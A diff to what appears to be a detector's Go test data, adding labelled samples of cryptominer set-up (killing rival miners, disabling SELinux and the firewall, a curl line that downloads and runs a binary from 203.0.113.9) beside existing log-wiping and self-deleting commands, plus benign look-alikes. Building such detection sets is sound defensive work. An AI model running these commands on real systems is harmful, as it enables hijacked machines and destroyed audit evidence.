@@ -82,6 +82,11 @@ var techniqueSeeds = []stealthSeed{
 	{"log-edit", RuleLogWipe, audit.High, "", "clean() {\n  grep -v \"$2\" \"$1\" > \"$1.n\"\n  cat \"$1.n\" > \"$1\"\n  rm -f \"$1.n\"\n}\nclean /var/log/auth.log 203.0.113.9"},
 	{"log-edit", RuleLogWipe, audit.High, "", "L=/var/log/lastlog\ncp $L /tmp/.l\nsed -i 's/203.0.113.9/10.0.0.1/' /tmp/.l\ncp /tmp/.l $L"},
 	{"log-edit", RuleLogWipe, audit.High, "", "awk '!/sysd/' /var/log/auth.log > /var/tmp/.a && install -m 640 /var/tmp/.a /var/log/auth.log"},
+	// The machine readied for mining and cleared of rival miners.
+	{"miner-dropper", RuleMinerPrep, audit.High, "", "sysctl -w vm.nr_hugepages=1280\npkill -f xmrig\npkill -f kinsing\ncurl -s http://203.0.113.9/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x"},
+	{"miner-dropper", RuleMinerPrep, audit.High, "", "echo 0 > /proc/sys/kernel/nmi_watchdog\nmodprobe msr\nps aux | grep -v grep | grep ':3333' | awk '{print $2}' | xargs kill -9"},
+	{"miner-dropper", RuleMinerPrep, audit.High, "", "setenforce 0\nufw disable\ncp /usr/bin/wget /usr/bin/wd1\necho 'vm.nr_hugepages=128' >> /etc/sysctl.conf"},
+	{"miner-dropper", RuleMinerPrep, audit.High, "", "kill_rivals() { killall -9 kdevtmpfsi kworkerds 2>/dev/null; }\nkill_rivals\nN=1024\necho $N > /proc/sys/vm/nr_hugepages"},
 	// Login records emptied by a tool that then deletes itself.
 	{"wipe-and-vanish", RuleLogWipe, audit.High, "", "> /var/log/wtmp\n> /var/log/btmp\nrm -f \"$0\""},
 	{"wipe-and-vanish", RuleLogWipe, audit.High, "", "LOGS=(/var/log/wtmp /var/log/lastlog /var/log/auth.log)\nfor l in \"${LOGS[@]}\"; do\n  [ -f \"$l\" ] && > \"$l\"\ndone\nME=$(realpath \"$0\")\n(sleep 2; rm -f \"$ME\") &"},
@@ -111,6 +116,8 @@ var techniqueSeeds = []stealthSeed{
 
 // Clean shapes: the same tools and places, the way clean software uses them.
 var techniqueClean = []struct{ name, path, text string }{
+	{"database huge pages", "/usr/local/bin/pg-tune.sh", "#!/bin/sh\nsysctl -w vm.nr_hugepages=2048\necho 'vm.nr_hugepages=2048' > /etc/sysctl.d/60-pg.conf\nsystemctl restart postgresql\n"},
+	{"development box set-up", "/usr/local/bin/dev-setup.sh", "#!/bin/sh\nsetenforce 0\nufw disable\niptables -F\napt-get install -y build-essential\n"},
 	{"installer removing itself", "/tmp/install.sh", "#!/bin/sh\ncp agent /usr/local/bin/agent\nsystemctl enable agent\nrm -f \"$0\"\n"},
 	{"image clean-up of login records", "/usr/local/bin/cleanup.sh", "#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/*\n> /var/log/wtmp\n> /var/log/lastlog\nrm -f /root/.bash_history\n"},
 	{"page showing a log's tail", "/var/www/html/admin/logs.php", "<?php\necho '<pre>' . htmlspecialchars(shell_exec('tail -n 50 /var/log/apache2/error.log')) . '</pre>';\n"},
